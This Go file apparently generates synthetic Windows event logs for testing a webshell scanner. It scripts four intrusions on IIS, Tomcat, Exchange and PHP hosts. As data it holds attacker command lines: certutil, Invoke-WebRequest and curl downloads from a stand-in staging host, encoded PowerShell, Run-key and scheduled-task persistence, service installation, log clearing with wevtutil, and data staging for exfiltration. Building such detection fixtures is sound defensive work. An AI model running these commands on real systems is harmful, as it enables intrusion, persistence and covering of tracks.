package fleet

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"time"
	"unicode/utf16"

	"webshellscan/internal/evtxtest"
)

// Names of the scripted incidents, as the truth has them.
const (
	IncidentPortal   = "portal-upload"       // IIS: an uploaded page runs commands, then a dropped program
	IncidentTomcat   = "tomcat-shell"        // Tomcat: commands below a service whose PID had another owner
	IncidentExchange = "exchange-powershell" // Exchange: encoded PowerShell below the OWA pool
	IncidentPHP      = "php-command"         // Apache: a PHP page runs commands among harmless ones
)

// staging is the host that files are fetched from, of a range for
// documentation.
var staging = Connection{"198.51.100.77", "cdn.tides.example", 443}

// intruder returns a request of one who broke in to the page that he left.
func intruder(method, page, client, agent string) Request {
	return Request{Method: method, URI: page, Client: client, UserAgent: agent}
}

// The script that the incident on the mail server runs, encoded.
const exchangeScript = "whoami; net group 'Exchange Trusted Subsystem' /domain"

// portalScript is the script that the incident on the portal runs, encoded.
const portalScript = "Get-Date; Get-ChildItem C:\\inetpub"

// encoded returns a PowerShell script as -EncodedCommand takes it: UTF-16LE in
// base64.
func encoded(script string) string {
	var raw []byte
	for _, u := range utf16.Encode([]rune(script)) {
		raw = binary.LittleEndian.AppendUint16(raw, u)
	}
	return base64.StdEncoding.EncodeToString(raw)
}

// shellOf is cmd.exe /c with one program in it.
func shellOf(after time.Duration, program, command string, steps ...Step) Step {
	return Step{
		Program: "cmd", Command: `"cmd.exe" /c ` + command, After: after,
		Steps: []Step{{Program: program, Command: command, After: 20 * time.Millisecond, Steps: steps}},
	}
}

// netUser is net.exe, which hands its work to net1.exe.
func netUser(after time.Duration, arguments string) Step {
	return Step{Program: "net", Command: "net  " + arguments, After: after, Steps: []Step{
		{Program: "net1", Command: `C:\Windows\system32\net1  ` + arguments, After: 12 * time.Millisecond},
	}}
}

// PlayPortalUpload plays the incident on a host with IIS: requests that fail, a
// page that is dropped and compiled, a look around with shells, a program
// fetched with certutil and what it runs, four levels deep.
func (h *Host) PlayPortalUpload() {
	worker := h.Worker("CustomerPortal")
	page := `C:\inetpub\portal\uploads\health.aspx`
	for i := range 3 {
		h.after(time.Duration(i)*9*time.Second, func() { h.portalException(worker, i) })
	}
	h.after(70*time.Second, func() { h.fileCreate(worker, page) })
	h.after(80*time.Second, func() { h.compilePage(worker) })
	shell := intruder("POST", "/uploads/health.aspx", "198.51.100.23", "python-requests/2.31.0")
	shell.Site = portalSite
	h.portalUpload(shell)
	h.after(48*time.Minute, func() {
		h.aside(func() {
			again := Step{Program: "hb", Command: `C:\Windows\Temp\hb.exe -q`, Life: 3 * time.Minute}
			h.taskProcess(portalTask, h.play(h.services["Schedule"], &again))
		})
	})
	h.PlayIncident(IncidentPortal, worker, shell.starts(
		shellOf(95*time.Second, "whoami", "whoami"),
		shellOf(112*time.Second, "ipconfig", "ipconfig /all"),
		Step{Program: "cmd", Command: `"cmd.exe" /c net user & net localgroup administrators`, After: 140 * time.Second, Steps: []Step{
			netUser(20*time.Millisecond, "user"), netUser(700*time.Millisecond, "localgroup administrators"),
		}},
		Step{Program: "cmd", Command: `"cmd.exe" /c dir /s /b C:\inetpub\portal\*.config`, After: 181 * time.Second},
		shellOf(233*time.Second, "systeminfo", "systeminfo"),
		Step{Program: "cmd", Command: `"cmd.exe" /c certutil -urlcache -split -f https://cdn.tides.example/r/hb.txt C:\Windows\Temp\hb.exe`, After: 300 * time.Second, Steps: []Step{
			{
				Program: "certutil", Command: `certutil  -urlcache -split -f https://cdn.tides.example/r/hb.txt C:\Windows\Temp\hb.exe`, After: 20 * time.Millisecond, Life: 4 * time.Second,
				Drops: []string{`C:\Windows\Temp\hb.exe`}, Connects: []Connection{staging},
			},
		}},
		Step{Program: "cmd", Command: `"cmd.exe" /c start /b C:\Windows\Temp\hb.exe -q`, After: 340 * time.Second, Steps: []Step{
			{
				Program: "hb", Command: `C:\Windows\Temp\hb.exe  -q`, After: 30 * time.Millisecond, Life: 22 * time.Minute, Connects: []Connection{staging},
				Sets: []RegistryValue{{`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\PortalHealth`, `C:\Windows\Temp\hb.exe -q`}},
				Deeds: []Deed{
					{4 * time.Millisecond, asksFor(staging)},
					{75 * time.Second, makesTask(portalTask, `C:\Windows\Temp\hb.exe`)},
					{wayOn, reaches(Connection{h.neighbour("DC01").address(), "DC01.harbor.example", 445})},
					{wayOn + 200*time.Millisecond, logsOnTo(deployer, h.neighbour("DC01"))},
				},
				Steps: []Step{{
					Program: "powershell", After: 90 * time.Second, Life: 6 * time.Minute,
					Command: `powershell.exe -nop -w hidden -enc ` + encoded(portalScript),
					Deeds:   []Deed{{400 * time.Millisecond, runsScript(portalScript, false)}},
					Steps: []Step{{
						Program: "cmd", Command: `"C:\Windows\system32\cmd.exe" /c nltest /dclist:harbor.example`, After: 40 * time.Second,
						Steps: []Step{{Program: "nltest", Command: `nltest  /dclist:harbor.example`, After: 20 * time.Millisecond}},
					}, netUser(2*time.Minute, `group "Domain Admins" /domain`)},
				}},
			},
		}},
	)...)
}

const (
	// portalSite is the ID of the portal's site, portalTask the task that
	// the incident there leaves behind.
	portalSite = "2"
	portalTask = `\PortalHealthCheck`
	// wayOn is how long after its start the program that was dropped on the
	// portal goes on to another host.
	wayOn = 16*time.Minute + 20*time.Second
)

// deployer is whose password the incident on the portal uses elsewhere.
var deployer = person{"svc-deploy", 1151, false}

// neighbour returns another host of the fleet by its short name, h itself if
// there is none.
func (h *Host) neighbour(name string) *Host {
	for _, other := range h.fleet.hosts {
		if other.shortName() == name {
			return other
		}
	}
	return h
}

// portalUpload logs the requests that lead to the page on the portal: some that
// fail, the upload, and the first look at the page.
func (h *Host) portalUpload(shell Request) {
	look, post := shell, shell
	look.Method, look.URI, look.Status = "GET", "/upload.aspx", 200
	post.URI, post.Status = "/upload.aspx", 500
	h.asked(-40*time.Second, look, 90*time.Millisecond)
	for i := range 3 {
		post.Query = fmt.Sprintf("step=%d&return=%%2fhome", i)
		h.asked(time.Duration(i)*9*time.Second-50*time.Millisecond, post, 120*time.Millisecond)
	}
	post.Query, post.Status = "step=3&return=%2fhome", 302
	h.asked(70*time.Second-60*time.Millisecond, post, 150*time.Millisecond)
	look.URI = shell.URI
	h.asked(80*time.Second-10*time.Millisecond, look, 1700*time.Millisecond)
}

// PlayWayOn plays what the domain controller sees of the incident on the
// portal: a logon from there.
func (h *Host) PlayWayOn() {
	h.aside(func() {
		from := h.neighbour("WEB01")
		s := h.session(evtxtest.Account{
			SID: accountSID(deployer), Name: deployer.Name, Domain: h.options.Domain, LogonID: h.newLogonID(),
		}, h.options.Domain+`\`+deployer.Name, Session{Integrity: "High", Label: labelHigh, Elevation: elevationFull})
		h.logon(s, 3, from.address())
	})
}

// portalException logs that a request made the portal throw an exception.
func (h *Host) portalException(worker *Process, n int) {
	h.write(ChannelApplication, &evtxtest.ASPNetException{
		EventID: fmt.Sprintf("%016x%016x", h.rng.Uint64(), h.rng.Uint64()), Sequence: uint32(40 + n), Occurrence: uint32(1 + n),
		AppDomain: "/LM/W3SVC/2/ROOT-1-133540000000000000", VirtualPath: "/", AppPath: `C:\inetpub\portal\`,
		Machine: h.shortName(), ProcessID: worker.PID, ProcessName: "w3wp.exe", Account: worker.Session.User,
		ExceptionType: "HttpException", ExceptionMessage: "The file type is not allowed. (\"health.aspx\")",
		URL: fmt.Sprintf("https://portal.harbor.example/upload.aspx?step=%d&return=%%2fhome", n), Path: "/upload.aspx",
		HostAddress: "198.51.100.23", ThreadID: uint32(20 + n),
		StackTrace: "   at Harbor.Portal.Upload.Check(HttpPostedFile file)\r\n   at Harbor.Portal.Upload.Page_Load(Object sender, EventArgs e)",
	}, nil)
}

// PlayTomcatShell plays the incident on a host with Tomcat: commands of a page,
// each in a shell of its own, a program fetched from outside, and a log that is
// cleared.
func (h *Host) PlayTomcatShell() {
	worker := h.services["Tomcat9"]
	h.after(282*time.Second, func() {
		h.write(ChannelSystem, &evtxtest.LogCleared{Subject: worker.Session.Account, Channel: "Application"}, nil)
	})
	shell := intruder("GET", "/harbor/upload/status.jsp", "203.0.113.60", "")
	put := shell
	put.Method, put.URI, put.Status = "PUT", "/harbor/upload/status.jsp/", 201
	h.asked(-3*time.Minute, put, 40*time.Millisecond)
	h.after(28*time.Minute, func() {
		h.aside(func() {
			h.play(h.services["services"], &Step{Program: "upd", Command: `C:\ProgramData\upd.exe --svc`, Life: 2000 * time.Hour})
		})
	})
	h.PlayIncident(IncidentTomcat, worker, shell.starts(
		Step{Program: "cmd", Command: `cmd.exe /c whoami`, After: time.Second, Steps: []Step{{Program: "whoami", Command: "whoami", After: 15 * time.Millisecond}}},
		Step{Program: "cmd", Command: `cmd.exe /c hostname & netstat -an`, After: 21 * time.Second, Steps: []Step{
			{Program: "hostname", Command: "hostname", After: 15 * time.Millisecond},
			{Program: "netstat", Command: "netstat  -an", After: 300 * time.Millisecond},
		}},
		Step{Program: "cmd", Command: `cmd.exe /c net localgroup administrators`, After: 58 * time.Second, Steps: []Step{netUser(15*time.Millisecond, "localgroup administrators")}},
		Step{Program: "cmd", Command: `cmd.exe /c tasklist /v`, After: 80 * time.Second, Steps: []Step{{Program: "tasklist", Command: "tasklist  /v", After: 15 * time.Millisecond}}},
		Step{
			Program: "powershell", Life: 20 * time.Second, After: 170 * time.Second,
			Command: `powershell -c "Invoke-WebRequest https://cdn.tides.example/r/u.bin -OutFile C:\ProgramData\upd.exe"`,
			Deeds:   []Deed{{time.Second, reaches(staging)}, {3 * time.Second, writes(`C:\ProgramData\upd.exe`)}},
		},
		Step{Program: "upd", Command: `C:\ProgramData\upd.exe --once`, After: 200 * time.Second, Life: 4 * time.Minute, Deeds: []Deed{
			{2 * time.Second, reaches(staging)}, {30 * time.Second, installsService("HarborUpdate", `C:\ProgramData\upd.exe --svc`)},
		}, Steps: []Step{
			{Program: "cmd", Command: `cmd /c reg query HKLM\SOFTWARE\Harbor /s`, After: 5 * time.Second, Steps: []Step{
				{Program: "reg", Command: `reg  query HKLM\SOFTWARE\Harbor /s`, After: 15 * time.Millisecond},
			}},
		}},
		Step{Program: "cmd", Command: `cmd.exe /c wevtutil cl Application`, After: 281 * time.Second, Steps: []Step{
			{Program: "wevtutil", Command: "wevtutil  cl Application", After: 15 * time.Millisecond},
		}},
	)...)
}

// PlayExchange plays the incident on a mail server: encoded PowerShell below
// the worker of OWA, which runs as SYSTEM.
func (h *Host) PlayExchange() {
	worker := h.Worker("MSExchangeOWAAppPool")
	page := `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\errorEE.aspx`
	h.after(time.Second, func() { h.fileCreate(worker, page) })
	h.after(4*time.Second, func() { h.compilePage(worker) })
	shell := intruder("POST", "/owa/auth/errorEE.aspx", "198.51.100.140", "ExchangeServicesClient/0.0.0.0")
	shell.Site = mailSite
	h.mailRequests(shell)
	h.after(20*time.Minute, func() {
		h.aside(func() { h.threat(worker, "Backdoor:ASP/Webshell.K", page) })
	})
	h.PlayIncident(IncidentExchange, worker, shell.starts(
		Step{
			Program: "powershell", After: 12 * time.Second, Life: 3 * time.Minute,
			Command: `"powershell.exe" -NonInteractive -enc ` + encoded(exchangeScript),
			Deeds:   []Deed{{300 * time.Millisecond, runsScript(exchangeScript, false)}},
			Steps: []Step{
				{Program: "whoami", Command: `"C:\Windows\system32\whoami.exe"`, After: 2 * time.Second},
				netUser(5*time.Second, `group "Exchange Trusted Subsystem" /domain`),
			},
		},
		Step{Program: "cmd", Command: `cmd.exe /c vssadmin list shadows`, After: 260 * time.Second, Steps: []Step{
			{Program: "vssadmin", Command: "vssadmin  list shadows", After: 20 * time.Millisecond, Life: 2 * time.Second},
		}},
		Step{Program: "cmd", Command: `cmd.exe /c makecab C:\ProgramData\mb.log C:\inetpub\wwwroot\aspnet_client\mb.cab`, After: 420 * time.Second, Steps: []Step{
			{
				Program: "makecab", Command: `makecab  C:\ProgramData\mb.log C:\inetpub\wwwroot\aspnet_client\mb.cab`, After: 20 * time.Millisecond, Life: 5 * time.Second,
				Drops: []string{`C:\inetpub\wwwroot\aspnet_client\mb.cab`},
			},
		}},
	)...)
}

// mailSite is the ID of the mail server's site.
const mailSite = "1"

// mailRequests logs the requests around the page on the mail server: those that
// lead to it, the first look at it, and the fetching of what was packed.
func (h *Host) mailRequests(shell Request) {
	before, fetch := shell, shell
	before.URI, before.Query, before.Status = "/autodiscover/autodiscover.json", "@harbor.example/mapi/nspi", 200
	h.asked(-50*time.Second, before, 300*time.Millisecond)
	before.Query = "@harbor.example/powershell/"
	h.asked(-9*time.Second, before, 9900*time.Millisecond)
	fetch.Method, fetch.Status = "GET", 200
	h.asked(4*time.Second-10*time.Millisecond, fetch, 1900*time.Millisecond)
	fetch.URI, fetch.Size = "/aspnet_client/mb.cab", 48_120_331
	h.asked(445*time.Second, fetch, 21*time.Second)
}

// threat logs that Windows Defender has met something in a file.
func (h *Host) threat(p *Process, name, path string) {
	h.trace(p, ChannelDefender, &evtxtest.ThreatDetected{
		DetectionID: h.guid(), Threat: name, Category: "Backdoor", Path: "file:_" + path, Process: p.Image, User: p.Session.User,
		Product: "4.18.24010.12", Signatures: "AV: 1.405.1180.0, AS: 1.405.1180.0, NIS: 1.405.1180.0",
	})
}

// PlayPHPCommand plays the incident on a host with Apache and PHP: commands in
// the same form as those of the harmless packages.
func (h *Host) PlayPHPCommand() {
	php := h.phpWorker()
	run := func(after time.Duration, command string, steps ...Step) Step {
		return Step{Program: "cmd", Command: `cmd.exe /s /c "` + command + `"`, After: after, Steps: steps}
	}
	shell := intruder("POST", "/media/thumbs/cache.php", "203.0.113.211", "curl/8.4.0")
	upload, more := shell, shell
	upload.URI, upload.Status = "/media/upload.php", 302
	h.asked(-90*time.Second, upload, 200*time.Millisecond)
	more.Method, more.URI = "GET", "/tmp/a.php"
	h.asked(84*time.Second, more, 30*time.Millisecond)
	h.PlayIncident(IncidentPHP, php, shell.starts(
		run(time.Second, "whoami", Step{Program: "whoami", Command: "whoami", After: 15 * time.Millisecond}),
		run(12*time.Second, "ver"),
		run(33*time.Second, `echo %COMPUTERNAME% & ipconfig`, Step{Program: "ipconfig", Command: "ipconfig", After: 15 * time.Millisecond}),
		run(71*time.Second, `curl -s -o C:\www\tmp\a.php https://cdn.tides.example/r/a.txt`,
			Step{
				Program: "curl", Command: `curl  -s -o C:\www\tmp\a.php https://cdn.tides.example/r/a.txt`, After: 15 * time.Millisecond, Life: 2 * time.Second,
				Drops: []string{`C:\www\tmp\a.php`}, Connects: []Connection{staging},
				Deeds: []Deed{{200 * time.Millisecond, reaches(staging)}, {900 * time.Millisecond, writes(`C:\www\tmp\a.php`)}},
			}),
		run(130*time.Second, `tasklist /svc | findstr /i "sql"`,
			Step{Program: "tasklist", Command: "tasklist  /svc ", After: 15 * time.Millisecond},
			Step{Program: "findstr", Command: `findstr  /i "sql"`, After: 16 * time.Millisecond}),
	)...)
}
